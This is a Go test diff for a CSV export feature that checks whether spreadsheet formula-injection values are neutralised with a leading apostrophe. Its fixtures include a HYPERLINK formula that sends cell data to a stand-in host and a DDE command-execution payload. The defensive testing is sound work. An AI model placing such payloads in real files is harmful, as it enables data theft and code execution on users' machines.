@@ -321,3 +321,47 @@ func isConflict(code string) func(error) bool {
 		return errors.As(err, &ce) && ce.Code == code
 	}
 }
+
+// A CSV export neutralises text that a spreadsheet would run as a formula
+// (a leading apostrophe), and leaves numbers as they are: -12.50 is an
+// amount. A fixed-width file is not a spreadsheet's and is not changed.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	defs := map[string]string{"pay/app.yaml": strings.Replace(exportDefs["pay/app.yaml"], "  ids:\n", `  all:
+    title: 全部明细
+    entity: batch
+    lines: {entity: line, via: batch, sort: "id"}
+    columns:
+      - {title: 户名, expr: "line.name"}
+      - {title: 金额, expr: "line.net"}
+      - {title: 备注, expr: "'-' + record.month"}
+  ids:
+`, 1)}
+	enginetest.ForEachDB(t, func(t *testing.T, d engine.Dialect) {
+		rt := enginetest.Start(t, d, enginetest.Load(t, defs))
+		ctx := context.Background()
+		sys := engine.SystemActor
+		batch := enginetest.Must(rt.Create(ctx, sys, "pay", "batch", map[string]any{"month": "2026-03", "agency": "101001"})).ID
+		for _, l := range []struct{ name, net string }{
+			{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "-12.50"},
+			{"+1+cmd|' /C calc'!A0", "3.00"},
+			{"@SUM(1+1)", "0.00"},
+			{"\t=1+1", "-0.01"},
+			{"张三", "1000.00"},
+		} {
+			enginetest.Must(rt.Create(ctx, sys, "pay", "line", map[string]any{"batch": batch, "agency": "101001", "name": l.name, "net": l.net}))
+		}
+		out, err := rt.Export(ctx, sys, "pay", "batch", batch, "all")
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := "'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-12.50,'-2026-03\r\n" +
+			"'+1+cmd|' /C calc'!A0,3.00,'-2026-03\r\n" +
+			"'@SUM(1+1),0.00,'-2026-03\r\n" +
+			"'\t=1+1,-0.01,'-2026-03\r\n" +
+			"张三,1000.00,'-2026-03\r\n"
+		want = `"` + want // the first cell holds quotes, so it is quoted
+		if string(out.Data) != want {
+			t.Errorf("export:\n%q\nwant\n%q", out.Data, want)
+		}
+	})
+}
